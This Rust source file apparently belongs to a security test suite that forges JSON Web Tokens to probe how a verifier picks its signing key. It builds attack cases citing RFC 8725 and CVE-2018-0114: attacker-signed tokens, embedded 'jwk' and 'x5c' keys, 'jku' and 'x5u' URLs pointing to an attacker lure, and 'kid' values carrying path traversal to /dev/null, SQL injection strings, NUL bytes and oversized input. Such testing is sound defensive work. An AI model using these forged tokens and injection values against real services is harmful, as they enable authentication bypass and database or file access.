//! Whose key it is: the header may name one of ours, and may bring none along.

use base64::{Engine, prelude::BASE64_STANDARD};
use jsonwebtoken::Algorithm as Jwa;
use mcp_auth::keys::Algorithm;
use serde_json::{Value, json};

use crate::{
    attack::{Attack, Group, Needs, Rows},
    der,
    forge::{Forge, Forged, joined, with},
};

const BROUGHT: &str = "RFC 8725 §3.10; CVE-2018-0114";
const FETCHED: &str = "RFC 8725 §3.10; RFC 7515 §4.1.2";
const CERTIFICATE: &str = "RFC 8725 §3.10; RFC 7515 §4.1.5, §4.1.6";
const INJECTION: &str = "RFC 8725 §3.10; RFC 7515 §4.1.4";
const UNKNOWN: &str = "RFC 7515 §4.1.4, §6";

pub(super) fn rows() -> Vec<Attack> {
    [strangers(), brought_along(), key_ids()].concat()
}

fn strangers() -> Vec<Attack> {
    let no = Needs::Nothing;
    Rows::of(Group::Key)
        .breach(("stranger-our-kid", "signed by a stranger, under the real key's id", UNKNOWN), no, |f| {
            f.by_attacker(json!({}), json!({}))
        })
        .breach(("stranger-own-kid", "signed by a stranger, under the stranger's key id", UNKNOWN), no, |f| {
            f.by_attacker(own_kid(f), json!({}))
        })
        .breach(("stranger-no-kid", "signed by a stranger, without a key id", UNKNOWN), no, |f| {
            f.by_attacker(json!({ "kid": null }), json!({}))
        })
        .breach(("stranger-es256", "signed ES256 by a stranger, without a key id", UNKNOWN), no, |f| {
            f.by(f.attacker().ec(), json!({ "kid": null }), json!({}))
        })
        .done()
}

fn brought_along() -> Vec<Attack> {
    let no = Needs::Nothing;
    Rows::of(Group::Key)
        .breach(("jwk", "`jwk` in the header, and its key id", BROUGHT), no, |f| {
            f.by_attacker(with(own_kid(f), json!({ "jwk": f.attacker().rsa().public().jwk() })), json!({}))
        })
        .breach(("jwk-our-kid", "`jwk` in the header, under the real key's id", BROUGHT), no, |f| {
            f.by_attacker(json!({ "jwk": f.attacker().rsa().public().jwk() }), json!({}))
        })
        .breach(("jwk-no-kid", "`jwk` in the header, without a key id", BROUGHT), no, |f| {
            f.by_attacker(json!({ "jwk": f.attacker().rsa().public().jwk(), "kid": null }), json!({}))
        })
        .breach(("jwk-ec", "`jwk` of an elliptic curve key in the header", BROUGHT), no, |f| {
            f.by(f.attacker().ec(), json!({ "jwk": f.attacker().ec().public().jwk(), "kid": null }), json!({}))
        })
        .breach(("jwk-oct", "`jwk` with an HMAC secret in the header", BROUGHT), no, |f| {
            let jwk = json!({ "kty": "oct", "alg": "HS256", "k": "YXR0YWNrZXI" });
            f.mac(json!({ "jwk": jwk, "kid": null }), Jwa::HS256, b"attacker")
        })
        .breach(("jku", "`jku`: the attacker's JWK Set", FETCHED), no, |f| {
            f.by_attacker(with(own_kid(f), json!({ "jku": f.lure("jwks.json") })), json!({}))
        })
        .breach(("jku-our-kid", "`jku`, under the real key's id", FETCHED), no, |f| {
            f.by_attacker(json!({ "jku": f.lure("jwks.json") }), json!({}))
        })
        .breach(("jku-userinfo", "`jku` with the issuer's name in front of an @", FETCHED), no, |f| {
            let lure = f.lure("jwks.json").replacen("://", &format!("://{}@", authority(&f.target().issuer)), 1);
            f.by_attacker(with(own_kid(f), json!({ "jku": lure })), json!({}))
        })
        .breach(("jku-contains-issuer", "`jku` with the issuer in its query", FETCHED), no, |f| {
            let lure = format!("{}?{}", f.lure("jwks.json"), f.target().issuer);
            f.by_attacker(with(own_kid(f), json!({ "jku": lure })), json!({}))
        })
        .breach(("x5u", "`x5u`: the attacker's certificate by URL", CERTIFICATE), no, |f| {
            f.by_attacker(with(own_kid(f), json!({ "x5u": f.lure("chain.pem") })), json!({}))
        })
        .breach(("x5c", "`x5c`: the attacker's certificate in the header", CERTIFICATE), no, |f| {
            let certificate = der::certificate(f.attacker().rsa(), "attacker")?;
            f.by_attacker(json!({ "x5c": [BASE64_STANDARD.encode(certificate)], "kid": null }), json!({}))
        })
        .breach(("x5c-our-kid", "`x5c`, under the real key's id", CERTIFICATE), no, |f| {
            let certificate = der::certificate(f.attacker().rsa(), "attacker")?;
            f.by_attacker(json!({ "x5c": [BASE64_STANDARD.encode(certificate)] }), json!({}))
        })
        .done()
}

fn key_ids() -> Vec<Attack> {
    let (no, key) = (Needs::Nothing, Needs::SigningKey);
    Rows::of(Group::Key)
        .breach(("kid-url", "`kid` the URL of the attacker's JWK Set", INJECTION), no, |f| {
            f.by_attacker(json!({ "kid": f.lure("jwks.json") }), json!({}))
        })
        .breach(("kid-dev-null", "`kid` a path to an empty file, HS256 keyed with nothing", INJECTION), no, |f| {
            f.mac(json!({ "kid": "../../../../../../../../dev/null" }), Jwa::HS256, b"")
        })
        .breach(
            ("kid-known-file", "`kid` a path to a file that is the same everywhere, HS256 keyed with it", INJECTION),
            no,
            |f| {
                let kid = "../../../../../../../../proc/sys/kernel/randomize_va_space";
                f.mac(json!({ "kid": kid }), Jwa::HS256, b"2\n")
            },
        )
        .breach(("kid-sql", "`kid` with quotes that selects the attacker's secret", INJECTION), no, |f| {
            f.mac(json!({ "kid": "x' UNION SELECT 'attacker' -- " }), Jwa::HS256, b"attacker")
        })
        .lax(("kid-path", "`kid` a path, signed by the real key", UNKNOWN), key, |f| {
            f.with_header(json!({ "kid": "../../../../../../../../dev/null" }))
        })
        .lax(("kid-quotes", "`kid` with quotes, signed by the real key", UNKNOWN), key, |f| {
            f.with_header(json!({ "kid": "' OR '1'='1" }))
        })
        .lax(("kid-nul", "`kid` the real one and a NUL", UNKNOWN), key, |f| {
            f.with_header(json!({ "kid": format!("{}\0", f.key()?.public().kid()) }))
        })
        .lax(("kid-case", "`kid` the real one in another case", UNKNOWN), key, |f| {
            let swapped = |c: char| if c.is_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() };
            f.with_header(json!({ "kid": f.key()?.public().kid().chars().map(swapped).collect::<String>() }))
        })
        .lax(("kid-10k", "`kid` of 10 kB, signed by the real key", UNKNOWN), key, |f| {
            f.with_header(json!({ "kid": "k".repeat(10_000) }))
        })
        .lax(("kid-empty", "`kid` the empty string, signed by the real key", UNKNOWN), key, |f| {
            f.with_header(json!({ "kid": "" }))
        })
        .lax(("kid-number", "`kid` a number, signed by the real key", "RFC 7515 §4.1.4"), key, |f| {
            f.with_header(json!({ "kid": 1 }))
        })
        .lax(("kid-array", "`kid` an array with the real one in it", "RFC 7515 §4.1.4"), key, |f| {
            f.with_header(json!({ "kid": [f.key()?.public().kid()] }))
        })
        .lax(
            ("kid-missing-of-several", "no `kid`, and several keys could be meant", "OpenID Connect Core §10.1"),
            Needs::TwoKeys,
            |f| {
                let key = f.one_of_two()?;
                let header = json!({ "alg": key.public().algorithm().as_str(), "typ": "at+jwt" });
                let message = joined(&header.to_string(), f.claims().to_string());
                Ok(format!("{message}.{}", key.sign(&message, key.algorithm())?))
            },
        )
        .lax(
            ("kid-of-another-key", "`kid` of another trusted key for the same algorithm", UNKNOWN),
            Needs::TwoKeys,
            |f| {
                let key = f.one_of_two()?;
                let (algorithm, kid) = (key.public().algorithm(), key.public().kid());
                let other = other_kid(f, algorithm, kid)?;
                f.by(key, json!({ "kid": other }), json!({}))
            },
        )
        .done()
}

fn own_kid(f: &Forge<'_>) -> Value {
    json!({ "kid": f.attacker().rsa().public().kid() })
}

fn authority(url: &str) -> &str {
    url.split_once("://").map_or(url, |(_, rest)| rest.split('/').next().unwrap_or(rest))
}

fn other_kid(f: &Forge<'_>, algorithm: Algorithm, kid: &str) -> Forged {
    let mut publics = f.target().keys.iter().map(crate::Key::public);
    let other = publics.find(|public| public.algorithm() == algorithm && public.kid() != kid);
    other.map(|public| public.kid().to_owned()).ok_or(crate::NotBuilt::Needs(Needs::TwoKeys))
}
